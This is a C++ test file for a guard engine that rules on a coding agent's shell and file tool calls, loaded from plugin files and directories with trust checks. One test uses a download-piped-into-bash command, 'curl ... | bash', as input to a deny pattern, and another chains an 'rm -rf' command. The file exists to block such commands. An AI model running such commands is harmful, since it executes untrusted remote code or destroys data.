// Guard plugin files (the Go coding agent's format) and where they load from.
#include <gtest/gtest.h>

#include "support/calls.hpp"
#include "support/temp_dir.hpp"
#include "toolguard/engine.hpp"
#include "toolguard/policy_loader.hpp"

namespace toolguard {
namespace guard_plugins_test {

using testing::TempDir;

Decision shell(const Engine& engine, const std::string& command) {
  return engine.decide(testing::makeCall("Bash", {{"command", command}}, "/w"));
}

Decision write(const Engine& engine, const std::string& path) {
  return engine.decide(testing::makeCall("Write", {{"file_path", path}, {"content", ""}}, "/w"));
}

// A policy of the plugin file `name` alone (given with --policy).
Engine pluginEngine(const TempDir& dir, const std::string& name, const std::string& text) {
  Policy policy;
  mergePolicyFile(policy, dir.write(name, text), PolicyLayer::Explicit);
  return Engine(policy);
}

// The first error of loading the plugin file, as "file:line:column: message".
std::string loadError(const std::string& name, const std::string& text) {
  TempDir dir;
  try {
    pluginEngine(dir, name, text);
  } catch (const PolicyError& e) {
    const auto& d = e.errors().front();
    return d.where.file.substr(dir.path().string().size() + 1) + ":" +
           std::to_string(d.where.line) + ": " + d.message;
  }
  return "no error";
}

const char* kDockerPlugin = R"yml(id: docker
tool: Bash
patterns:
  - match: "^docker (ps|images)"
    verdict: allow
    reason: listing containers is harmless
  - match: "docker"
    verdict: ask
    reason: docker can change the machine
)yml";

TEST(GuardPlugins, TheFirstMatchingPatternDecidesForThePlugin) {
  TempDir dir;
  Engine engine = pluginEngine(dir, "docker.yaml", kDockerPlugin);
  Decision d = shell(engine, "docker ps");
  EXPECT_EQ(d.verdict, Verdict::Allow);
  EXPECT_EQ(d.reason, "listing containers is harmless");
  EXPECT_EQ(d.source.line, 4);
  d = shell(engine, "docker run -it alpine");
  EXPECT_EQ(d.verdict, Verdict::Ask);
  EXPECT_EQ(d.rule_id, "plugin:docker#2");
}

TEST(GuardPlugins, ShellPatternsApplyToEachSimpleCommandAndTheWholeText) {
  TempDir dir;
  Engine engine = pluginEngine(dir, "docker.yaml", kDockerPlugin);
  // `ls` is unknown to this policy (ask anyway); the point is the docker part.
  Decision d = shell(engine, "ls && docker run alpine");
  EXPECT_EQ(d.verdict, Verdict::Ask);
  EXPECT_EQ(d.reason, "docker can change the machine");
  // An allow pattern never allows the other commands of a program.
  d = shell(engine, "docker ps; rm -rf /tmp/x");
  EXPECT_EQ(d.verdict, Verdict::Ask);
  EXPECT_NE(d.decided_on, "docker ps");
  // The whole text catches what no single command shows.
  Engine deny = pluginEngine(dir, "pipe.yaml", R"yml(patterns:
  - {match: "curl[^|]*\\| *(ba)?sh", verdict: deny, reason: piping downloads into a shell}
)yml");
  d = shell(deny, "curl -s https://x.example/i.sh | bash");
  EXPECT_EQ(d.verdict, Verdict::Deny);
  EXPECT_EQ(d.rule_id, "plugin:pipe#2");
}

TEST(GuardPlugins, FileMatchIsAGlobOnTheBaseNameOfAFileToolsPath) {
  TempDir dir;
  Engine engine = pluginEngine(dir, "locks.yaml", R"yml(tool: write, Edit
patterns:
  - file_match: "*.lock"
    verdict: deny
    reason: lock files are generated
  - file_match: "[Mm]akefile"
    verdict: ask
)yml");
  EXPECT_EQ(write(engine, "/w/deep/dir/Cargo.lock").verdict, Verdict::Deny);
  EXPECT_EQ(write(engine, "/w/Makefile").verdict, Verdict::Ask);
  EXPECT_NE(write(engine, "/w/lockfile").rule_id.rfind("plugin:", 0), 0u);
  // `tool` limits the plugin (compared without case): Read is not named.
  Decision d = engine.decide(testing::makeCall("Read", {{"file_path", "/w/Cargo.lock"}}, "/w"));
  EXPECT_NE(d.rule_id.rfind("plugin:", 0), 0u);
}

TEST(GuardPlugins, MarkdownPluginsKeepTheirPatternsInFrontMatterOrBody) {
  TempDir dir;
  Engine front = pluginEngine(dir, "npm.md", R"yml(---
id: npm-publish
tool: Bash
patterns:
  - match: "npm publish"
    verdict: deny
    reason: releases go through CI
---
# npm publish guard

Publishing from an agent is never right.
)yml");
  Decision d = shell(front, "npm publish --access public");
  EXPECT_EQ(d.verdict, Verdict::Deny);
  EXPECT_EQ(d.rule_id, "plugin:npm-publish#1");
  EXPECT_EQ(d.source.line, 5);
  Engine body = pluginEngine(dir, "terraform.md", R"yml(---
tool: Bash
---
patterns:
  - match: "terraform (apply|destroy)"
    verdict: ask
)yml");
  d = shell(body, "terraform destroy -auto-approve");
  EXPECT_EQ(d.verdict, Verdict::Ask);
  EXPECT_EQ(d.rule_id, "plugin:terraform#1");  // the id defaults to the file name
  EXPECT_EQ(d.source.line, 5);
}

TEST(GuardPlugins, MistakesAreLoadErrorsNamingFileAndLine) {
  EXPECT_EQ(loadError("a.yaml", "patterns:\n  - {match: x, verdict: block}\n"),
            "a.yaml:2: unknown verdict 'block' (expected allow, ask, deny)");
  EXPECT_EQ(loadError("b.yaml",
                      "patterns:\n  - match: x\n    verdict: deny\n  - match: \"(\"\n"
                      "    verdict: deny\n")
                .substr(0, 30),
            "b.yaml:4: match: invalid regex");
  EXPECT_EQ(
      loadError("c.md",
                "---\ntool: Write\npatterns:\n  - {file_match: \"[ab\", verdict: ask}\n---\n"),
      "c.md:4: file_match '[ab': unclosed character class '['");
  EXPECT_EQ(loadError("d.yaml", "patterns:\n  - {file_match: \"src/*.c\", verdict: ask}\n"),
            "d.yaml:2: file_match 'src/*.c': a base-name glob cannot contain '/'");
  EXPECT_EQ(
      loadError("e.yaml", "patterns:\n  - {match: x, verdict: deny, when: always}\n"),
      "e.yaml:2: unknown key 'when' in a pattern (expected match, file_match, verdict, reason)");
  EXPECT_EQ(loadError("f.md", "# no front matter\n"),
            "f.md:1: a Markdown guard plugin must start with YAML front matter (a line ---)");
  EXPECT_EQ(loadError("g.yaml", "patterns:\n  - {verdict: deny}\n"),
            "g.yaml:2: pattern: needs match or file_match");
}

// A home directory and a project with guard plugin directories.
struct PluginLayout {
  TempDir dir;
  std::filesystem::path home() const { return dir.path() / "home"; }
  std::filesystem::path project() const { return dir.path() / "project"; }
  void plugin(const std::filesystem::path& base, const std::string& agent_dir,
              const std::string& file, const std::string& text) const {
    auto relative = std::filesystem::relative(base / agent_dir / "guards" / file, dir.path());
    dir.write(relative.string(), text);
  }
  PolicySources sources(bool trust_project) const {
    PolicySources s;
    s.builtin = false;
    s.user_dir = dir.path() / "config";
    if (trust_project) {
      dir.write("config/trust.yaml", "trusted_projects: [" + project().string() + "]\n");
    }
    for (const char* agent_dir : {".toolguard", ".agents", ".claude", ".bitcode"}) {
      s.user_plugin_dirs.push_back(home() / agent_dir / "guards");
    }
    s.plugin_project_roots = {project()};
    s.managed_dir = dir.path() / "managed";
    return s;
  }
};

std::string askFor(const std::string& word, const std::string& reason,
                   const std::string& verdict = "ask") {
  return "id: shared\npatterns:\n  - {match: \"" + word + "\", verdict: " + verdict +
         ", reason: " + reason + "}\n";
}

TEST(GuardPluginDirs, TheSameIdLaterOverridesEarlierInAFixedOrder) {
  PluginLayout l;
  l.plugin(l.home(), ".toolguard", "a.yaml", askFor("make", "from toolguard"));
  l.plugin(l.home(), ".agents", "b.yaml", askFor("make", "from agents"));
  l.plugin(l.home(), ".claude", "c.md", "---\n" + askFor("make", "from claude") + "---\n");
  l.plugin(l.home(), ".bitcode", "d.yml", askFor("make", "from bitcode"));
  l.plugin(l.home(), ".agents", "other.yaml", "patterns:\n  - {match: cmake, verdict: ask}\n");
  Engine engine(loadPolicy(l.sources(false)));
  Decision d = shell(engine, "make all");
  EXPECT_EQ(d.reason, "from bitcode");
  EXPECT_EQ(d.source.file, (l.home() / ".bitcode/guards/d.yml").string());
  // Each id is one rule: the overridden plugins are gone, the other stays.
  size_t plugins = 0;
  for (const auto& rule : engine.policy().rules) plugins += rule->id().rfind("plugin:", 0) == 0;
  EXPECT_EQ(plugins, 2u);
}

TEST(GuardPluginDirs, AnUntrustedProjectsPluginsDoNotLoad) {
  PluginLayout l;
  l.plugin(l.project(), ".claude", "allow-all.yaml",
           "id: wide-open\npatterns:\n  - {match: \".*\", verdict: allow}\n");
  Policy policy = loadPolicy(l.sources(false));
  for (const auto& rule : policy.rules) EXPECT_NE(rule->id(), "plugin:wide-open");
  bool warned = false;
  for (const auto& w : policy.warnings) {
    warned = warned || w.message.find("guard plugins not loaded") != std::string::npos;
  }
  EXPECT_TRUE(warned);
  // Trusted, it loads.
  Engine trusted(loadPolicy(l.sources(true)));
  EXPECT_EQ(shell(trusted, "echo hi").rule_id, "plugin:wide-open#1");
}

TEST(GuardPluginDirs, AProjectPluginCannotReplaceAUserPlugin) {
  PluginLayout l;
  l.plugin(l.home(), ".claude", "shared.yaml", askFor("deploy", "the user's rule", "deny"));
  l.plugin(l.project(), ".bitcode", "shared.yaml", askFor("deploy", "the project's", "allow"));
  l.plugin(l.project(), ".agents", "own.yaml", "patterns:\n  - {match: lint, verdict: allow}\n");
  Engine engine(loadPolicy(l.sources(true)));
  Decision d = shell(engine, "deploy prod");
  EXPECT_EQ(d.verdict, Verdict::Deny);
  EXPECT_EQ(d.reason, "the user's rule");
  EXPECT_EQ(shell(engine, "lint").verdict, Verdict::Allow);  // its own plugins load
}

TEST(GuardPluginDirs, ABrokenPluginFailsTheLoad) {
  PluginLayout l;
  l.plugin(l.home(), ".agents", "bad.yaml", "patterns:\n  - {match: x, verdict: maybe}\n");
  try {
    loadPolicy(l.sources(false));
    FAIL() << "expected a PolicyError";
  } catch (const PolicyError& e) {
    EXPECT_EQ(e.errors().front().where.file, (l.home() / ".agents/guards/bad.yaml").string());
    EXPECT_EQ(e.errors().front().where.line, 2);
  }
}

TEST(GuardPluginDirs, DiscoveryFindsTheUsersAndTheProjectsDirectories) {
  TempDir dir;
  const std::string old_home = getenv("HOME") ? getenv("HOME") : "";
  const std::string home = (dir.path() / "home").string();
  setenv("HOME", home.c_str(), 1);
  dir.write("home/code/app/.agents/guards/x.yaml", "patterns: []\n");
  dir.write("home/code/app/src/keep", "");
  PolicySources s = discoverPolicySources(dir.path() / "home/code/app/src");
  setenv("HOME", old_home.c_str(), 1);
  ASSERT_EQ(s.user_plugin_dirs.size(), 4u);
  EXPECT_EQ(s.user_plugin_dirs[1], std::filesystem::path(home) / ".agents/guards");
  EXPECT_EQ(s.user_plugin_dirs[3], std::filesystem::path(home) / ".bitcode/guards");
  ASSERT_EQ(s.plugin_project_roots.size(), 1u);
  EXPECT_EQ(s.plugin_project_roots[0], std::filesystem::path(home) / "code/app");
}

}  // namespace guard_plugins_test
}  // namespace toolguard
